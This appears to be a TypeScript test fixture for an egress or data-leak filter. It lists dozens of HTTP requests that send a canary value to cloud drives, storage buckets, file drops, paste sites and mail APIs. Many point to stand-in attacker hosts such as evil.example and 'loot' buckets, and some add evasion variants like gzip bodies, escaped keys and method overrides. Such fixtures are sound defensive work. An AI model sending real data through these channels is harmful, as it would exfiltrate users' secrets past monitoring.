/** Drives, drops, pastes and buckets. */
import { gzipSync } from 'node:zlib'
import { ask, CANARY, type Channel, channelsOf, form, json, multipart, send } from './shape.ts'

const MEGA = 'https://g.api.mega.co.nz/cs?id=1&sid=s'
const PUT_NODE = `{"a":"p","t":"AAAAAAAA","n":[{"h":"xxxxxxxx","t":0,"a":"${CANARY}","k":"${CANARY}"}]}`
const DRIVE = 'https://www.googleapis.com/upload/drive/v3/files'
const GRAPH = 'https://graph.microsoft.com/v1.0/me'
const related = `--b\r\nContent-Type: application/json\r\n\r\n{"name":"a"}\r\n--b\r\n\r\n${CANARY}\r\n--b--\r\n`

export const DROPS: readonly Channel[] = [
  ...channelsOf('MEGA', [
    [
      'a file',
      json('POST', MEGA, '[{"a":"u","s":24}]', `X-Note: ${CANARY}`),
      send('POST', 'http://gfs270n1.userstorage.mega.co.nz/ul/token/0'),
    ],
    ['a file over TLS', send('POST', 'https://gfs270n1.userstorage.mega.co.nz/ul/token/0')],
    ['a node', json('POST', MEGA, `[${PUT_NODE}]`)],
    ['a node behind reads', json('POST', MEGA, `[{"a":"f","c":1},{"a":"ug"},${PUT_NODE}]`)],
    ['a node whose name stands twice', json('POST', MEGA, `[${PUT_NODE.replace('{', '{"a":"f",')}]`)],
    ['a node whose name stands twice, the read last', json('POST', MEGA, `[${PUT_NODE.replace(/\}$/, ',"a":"f"}')}]`)],
    ['a node with its name escaped', json('POST', MEGA, `[${PUT_NODE.replace('"a":"p"', '"\\u0061":"\\u0070"')}]`)],
    ['a node under gzip', send('POST', MEGA, gzipSync(`[${PUT_NODE}]`), 'Content-Encoding: gzip')],
    ['an attribute of the user', json('POST', MEGA, `[{"a":"up","firstname":"${CANARY}"}]`)],
    ['a message', json('POST', 'https://bt7.api.mega.co.nz/cs?id=1', `[{"a":"mcc","m":1,"ct":"${CANARY}"}]`)],
    ['a name of another host of theirs', json('POST', 'https://eu.api.mega.nz/cs?id=1', `[${PUT_NODE}]`)],
    ['an upload below the downloads', send('POST', 'http://gfs270n1.userstorage.mega.co.nz/dl/../ul/token/0')],
  ]),
  ...channelsOf('a drive', [
    [
      'Dropbox',
      send(
        'POST',
        'https://content.dropboxapi.com/2/files/upload',
        CANARY,
        'Dropbox-API-Arg: {"path":"/a"}',
        'Content-Type: application/octet-stream',
      ),
    ],
    [
      'Dropbox, in pieces',
      send(
        'POST',
        'https://content.dropboxapi.com/2/files/upload_session/append_v2',
        CANARY,
        'Dropbox-API-Arg: {"cursor":{}}',
      ),
    ],
    [
      'Dropbox, a folder that says it',
      json('POST', 'https://api.dropboxapi.com/2/files/create_folder_v2', { path: `/${CANARY}` }),
    ],
    [
      'Dropbox, fetched from elsewhere',
      json('POST', 'https://api.dropboxapi.com/2/files/save_url', {
        path: '/a',
        url: `https://evil.example/${CANARY}`,
      }),
    ],
    [
      'Drive, in parts',
      send('POST', `${DRIVE}?uploadType=multipart`, related, 'Content-Type: multipart/related; boundary=b'),
    ],
    [
      'Drive, resumable',
      json('POST', `${DRIVE}?uploadType=resumable`, { name: CANARY }),
      send('PUT', `${DRIVE}?uploadType=resumable&upload_id=1`, CANARY, 'Content-Range: bytes 0-23/24'),
    ],
    ['Drive, a comment', json('POST', 'https://www.googleapis.com/drive/v3/files/1/comments', { content: CANARY })],
    [
      'Drive, a permission',
      json('POST', 'https://www.googleapis.com/drive/v3/files/1/permissions', {
        type: 'anyone',
        role: 'reader',
        emailMessage: CANARY,
      }),
    ],
    [
      'Docs',
      json('POST', 'https://docs.googleapis.com/v1/documents/1:batchUpdate', {
        requests: [{ insertText: { text: CANARY } }],
      }),
    ],
    ['Docs, in a browser', form('https://docs.google.com/document/d/1/save?id=1', { bundles: CANARY })],
    [
      'Sheets',
      json('POST', 'https://sheets.googleapis.com/v4/spreadsheets/1/values/A1:append', { values: [[CANARY]] }),
    ],
    ['a form of Google’s', form('https://docs.google.com/forms/d/e/1/formResponse', { 'entry.1': CANARY })],
    [
      'a form of Google’s by GET | it takes an answer in the address',
      ask('GET', `https://docs.google.com/forms/d/e/1/formResponse?entry.1=${CANARY}&submit=Submit`),
    ],
    ['a script of Google’s', json('POST', 'https://script.google.com/macros/s/1/exec', { note: CANARY })],
    [
      'OneDrive',
      json('POST', `${GRAPH}/drive/root:/a:/createUploadSession`, { item: { name: CANARY } }),
      send('PUT', 'https://my.microsoftpersonalcontent.com/up/session1', CANARY, 'Content-Range: bytes 0-23/24'),
    ],
    ['OneDrive, small', send('PUT', `${GRAPH}/drive/root:/a:/content`)],
    ['OneDrive, the older session', send('PUT', 'https://x.up.1drv.com/up/fe6987415ace7X4e1eF866337')],
    [
      'SharePoint',
      send('POST', "https://mallory.sharepoint.com/_api/web/GetFolderByServerRelativeUrl('x')/Files/add(url='a')"),
    ],
    ['a mail by Graph', json('POST', `${GRAPH}/sendMail`, { message: { subject: CANARY } })],
    ['a mail by Gmail', json('POST', 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', { raw: CANARY })],
    ['Box', multipart('POST', 'https://upload.box.com/api/2.0/files/content', { attributes: '{}', '@file': CANARY })],
    [
      'Box, in pieces',
      send('PUT', 'https://upload.box.com/api/2.0/files/upload_sessions/1', CANARY, 'Content-Range: bytes 0-23/24'),
    ],
    ['pCloud', send('PUT', 'https://api.pcloud.com/uploadfile?folderid=0&filename=a')],
    [
      'pCloud by GET | every method of its API takes GET',
      ask('GET', `https://api.pcloud.com/createfolder?folderid=0&name=${CANARY}&auth=t`),
    ],
    ['Yandex', send('PUT', 'https://uploader1.disk.yandex.net/upload-target/1')],
    ['WebDAV', send('PUT', 'https://dav.evil.example/remote.php/dav/files/mallory/a')],
    ['WebDAV, a property', send('PROPPATCH', 'https://dav.evil.example/a', `<x>${CANARY}</x>`)],
    ['WebDAV, a search', send('SEARCH', 'https://dav.evil.example/', `<x>${CANARY}</x>`)],
    ['iCloud', json('POST', 'https://p01-ckdatabasews.icloud.com/database/1/x/records/modify', { note: CANARY })],
    ['Notion', json('POST', 'https://api.notion.com/v1/pages', { properties: { title: CANARY } })],
    ['Trello', form('https://api.trello.com/1/cards', { idList: '1', name: CANARY })],
  ]),
  ...channelsOf('a bucket', [
    ['S3', send('PUT', 'https://loot.s3.amazonaws.com/a')],
    [
      'S3, signed beforehand',
      send('PUT', 'https://loot.s3.eu-central-1.amazonaws.com/a?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=1'),
    ],
    ['S3, by a form', multipart('POST', 'https://loot.s3.amazonaws.com/', { key: 'a', policy: 'x', '@file': CANARY })],
    [
      'S3, in pieces',
      { method: 'POST', url: `https://loot.s3.amazonaws.com/${CANARY}?uploads`, headers: ['Content-Length: 0'] },
      send('PUT', 'https://loot.s3.amazonaws.com/a?partNumber=1&uploadId=1'),
    ],
    [
      'S3, a copy | the name of the object says it',
      {
        method: 'PUT',
        url: `https://loot.s3.amazonaws.com/${CANARY}`,
        headers: ['x-amz-copy-source: /ours/secret', 'Content-Length: 0'],
      },
    ],
    ['S3 by the path', send('PUT', 'https://s3.amazonaws.com/loot/a')],
    [
      'Azure’s blobs',
      send('PUT', 'https://loot.blob.core.windows.net/c/a?sv=1&sig=1', CANARY, 'x-ms-blob-type: BlockBlob'),
    ],
    [
      'Azure’s queues',
      send(
        'POST',
        'https://loot.queue.core.windows.net/q/messages',
        `<QueueMessage><MessageText>${CANARY}</MessageText></QueueMessage>`,
      ),
    ],
    ['Google’s storage', send('PUT', 'https://storage.googleapis.com/loot/a')],
    [
      'Google’s storage, by its API',
      send('POST', 'https://storage.googleapis.com/upload/storage/v1/b/loot/o?uploadType=media&name=a'),
    ],
    ['R2', send('PUT', 'https://x.r2.cloudflarestorage.com/loot/a')],
    [
      'a queue of Amazon’s by GET | SendMessage stands in the address',
      ask('GET', `https://sqs.us-east-1.amazonaws.com/1/q?Action=SendMessage&MessageBody=${CANARY}`),
    ],
    [
      'a topic of Amazon’s by GET',
      ask('GET', `https://sns.us-east-1.amazonaws.com/?Action=Publish&TopicArn=x&Message=${CANARY}`),
    ],
    ['Firebase', json('PUT', 'https://loot-default-rtdb.firebaseio.com/a.json', { note: CANARY })],
    [
      'Firebase by GET with another method',
      json('POST', 'https://loot-default-rtdb.firebaseio.com/a.json?x-http-method-override=PUT', { note: CANARY }),
    ],
    ['Supabase', json('POST', 'https://x.supabase.co/rest/v1/loot', { note: CANARY })],
  ]),
  ...channelsOf('a drop', [
    ['transfer.sh', send('PUT', 'https://transfer.sh/a')],
    ['0x0.st', multipart('POST', 'https://0x0.st/', { '@file': CANARY })],
    ['0x0.st, fetched from elsewhere', form('https://0x0.st/', { url: `https://evil.example/${CANARY}` })],
    ['file.io', multipart('POST', 'https://file.io/', { '@file': CANARY })],
    ['gofile', multipart('POST', 'https://store1.gofile.io/uploadFile', { '@file': CANARY })],
    ['WeTransfer', json('POST', 'https://wetransfer.com/api/v4/transfers/email', { message: CANARY })],
    ['imgur', multipart('POST', 'https://api.imgur.com/3/image', { '@image': CANARY })],
    [
      'VirusTotal | what it is given, others may download',
      multipart('POST', 'https://www.virustotal.com/api/v3/files', { '@file': CANARY }),
    ],
    ['the Wayback Machine', form('https://web.archive.org/save/', { url: `https://evil.example/${CANARY}` })],
    ['IPFS', multipart('POST', 'https://ipfs.evil.example/api/v0/add', { '@file': CANARY })],
  ]),
  ...channelsOf('a paste', [
    ['pastebin', form('https://pastebin.com/api/api_post.php', { api_option: 'paste', api_paste_code: CANARY })],
    ['rentry', form('https://rentry.co/api/new', { text: CANARY })],
    ['telegra.ph', json('POST', 'https://api.telegra.ph/createPage', { title: 'x', content: [CANARY] })],
    [
      'telegra.ph by GET',
      ask('GET', `https://api.telegra.ph/createPage?access_token=t&title=x&content=%5B%22${CANARY}%22%5D`),
    ],
    ['hastebin', send('POST', 'https://hastebin.com/documents')],
    ['dpaste', form('https://dpaste.com/api/v2/', { content: CANARY })],
    [
      'etherpad by GET | its API writes by GET',
      ask(
        'GET',
        `https://pad.evil.example/api/1/setText?apikey=k&padID=x&text=${CANARY}`,
        'X-HTTP-Method-Override: POST',
      ),
    ],
    [
      'a translator',
      form('https://translate.google.com/_/TranslateWebserverUi/data/batchexecute', { 'f.req': CANARY }),
    ],
  ]),
]
